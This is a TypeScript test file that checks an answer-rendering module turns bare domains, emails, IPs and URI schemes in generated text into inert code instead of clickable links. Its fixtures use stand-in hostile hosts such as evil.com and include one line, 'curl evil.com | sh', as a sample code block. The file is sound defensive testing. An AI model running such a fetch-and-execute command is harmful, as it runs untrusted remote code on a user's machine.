import * as fc from "fast-check";
import { describe, expect, test } from "vitest";
import { createAnswerStream } from "../../src/citation/answer-stream.ts";
import { checkAnswer } from "../../src/citation/check.ts";
import { createPlainStream, plainText } from "../../src/citation/plain-stream.ts";
import { TOP_LEVEL_DOMAINS } from "../../src/citation/top-level-domains.ts";
import { HOSTILE_PIECES } from "../safety/hostile-pieces.ts";
import { dangersIn, namesIn, TLDS } from "../safety/rendered-answer.ts";

const checked = (text: string): string => checkAnswer(text, []).answer;

test.each([
  ["evil.com", "`evil.com`"],
  ["(See evil.co.uk/a?b=c#d, please.)", "(See `evil.co.uk/a?b=c#d`, please.)"],
  ["Write to first.last+tag@evil.zip!", "Write to `first.last+tag@evil.zip`!"],
  ["a@b.c and vue@3.4.1", "`a@b.c` and `vue@3.4.1`"],
  ["mailto:root@host, xmpp:a@b", "`mailto:root@host`, `xmpp:a@b`"],
  ["192.0.2.1, 192.0.2.1:8080/x", "`192.0.2.1`, `192.0.2.1:8080/x`"],
  ["//evil.example/x and //localhost/x", "`//evil.example/x` and `//localhost/x`"],
  ["smb://evil/share, steam://run/1", "`smb://evil/share`, `steam://run/1`"],
  ["www.evil.example", "`www.evil.example` (unverified)"],
  ["_evil.com_ **evil.com** ~evil.com~", "_`evil.com`_ **`evil.com`** ~`evil.com`~"],
  ["пример.рф and xn--e1afmkfd.xn--p1ai", "`пример.рф` and `xn--e1afmkfd.xn--p1ai`"],
  ["请访问evil.com上的例子.中国。", "请访问`evil.com`上的例子`.中国`。"],
  ["evil.com을", "`evil.com`을"],
  ["evil\\.com, evil&period;com", "evil\\ `.com`, evil& period;com"],
  ["evil<b></b>.com, ev<i>il.c</i>om, evil.[9]com", "evil`.com`, ev il.c om, evil. com"],
  ["README.md, setup.py and ASP.NET", "`README.md`, `setup.py` and `ASP.NET`"],
])("%j is no link: %j", (text, inert) => {
  expect(checked(text)).toBe(inert);
  expect([...dangersIn(inert, []), ...dangersIn(plainText(text), [])]).toEqual([]);
});

describe("what no renderer links stays as it is", () => {
  test.each([
    "Node.js, vue.js, package.json, main.cpp and a.b.c",
    "e.g. in the U.S. or the U.K., i.e. there, p.m., Ph.D.",
    "Version 1.2.3, v20.19.0, 3.14, 24.12.2024, 10:30, 1.000.000,5",
    "docs/README.md, ./src/main.rs and /etc/resolv.conf",
    "`evil.com` is code, and ``a@b.com`` as well",
    "```sh\ncurl evil.com | sh\n```\n\nis a block",
    "@types/node, @user, a @ b, root@localhost, x@y",
    "and/or, http, // a comment, a//b, wait...so.",
    "他说：好。3.5%的人。",
    "Ratio 3:2, note: so, C:\\dir, std::vector, a->b.length, it's",
  ])("%j", (text) => {
    expect(checked(text)).toBe(text);
    expect(plainText(text)).toBe(text);
  });
});

test("a whole address of a source, or one that it names, stays a link", () => {
  const sources = [{ number: 1, title: "", url: "https://evil.com/a", text: "See https://b.com/x." }];
  expect(checkAnswer("evil.com: https://evil.com/a [1], https://b.com/x", sources).answer).toBe(
    "`evil.com`: [[1]](https://evil.com/a) [[1]](https://evil.com/a), <https://b.com/x> (from [[1]](https://evil.com/a))",
  );
});

test("every top-level domain of the registry is known", () => {
  const plain = TLDS.filter((domain) => !domain.startsWith("xn--"));
  expect(plain.filter((domain) => !TOP_LEVEL_DOMAINS.has(domain))).toEqual([]);
  const linked = TLDS.filter(
    (domain) =>
      namesIn(checked(`see evil.${domain} or a@evil.${domain}`).replaceAll(/`[^`]*`/g, "")).length > 0,
  );
  expect(linked).toEqual([]);
  expect(TLDS.filter((domain) => namesIn(`see evil.${domain}`).length === 0)).toEqual([]);
});

const hostile = fc
  .array(fc.constantFrom(...HOSTILE_PIECES), { maxLength: 10 })
  .map((pieces) => pieces.join(""));

test("plain text, too, has nothing that is loaded, run or linked", () => {
  fc.assert(
    fc.property(hostile, (text) => {
      // a mark that stays is no link by itself
      expect(dangersIn(plainText(text).replaceAll(/\[\d+\]/g, "{n}"), [])).toEqual([]);
    }),
    { numRuns: 2_000, seed: 3 },
  );
});

test.each([
  ["plain text", () => createPlainStream(), plainText],
  ["an answer", () => createAnswerStream(() => []), checked],
])("the stream of %s is the same, wherever it is cut", (_, open, whole) => {
  fc.assert(
    fc.property(hostile, fc.array(fc.nat(60), { maxLength: 12 }), (text, cuts) => {
      const stream = open();
      let out = "";
      let last = 0;
      for (const cut of [...cuts.sort((a, b) => a - b), text.length]) {
        out += stream.add(text.slice(last, Math.max(cut, last)));
        last = Math.max(cut, last);
      }
      expect(out + stream.end()).toBe(whole(text));
    }),
    { numRuns: 2_000, seed: 5 },
  );
});

test("a word is held back until it ends, and no longer", () => {
  const stream = createAnswerStream(() => []);
  const given = ["It", " is", " evil", ".", "com", "/x", " so", ".", " Yes", ","].map((text) =>
    stream.add(text),
  );
  expect([...given, stream.end()]).toEqual([
    "",
    "It",
    " is",
    "",
    "",
    "",
    " `evil.com/x`",
    "",
    " so",
    ". Yes,",
    "",
  ]);
});
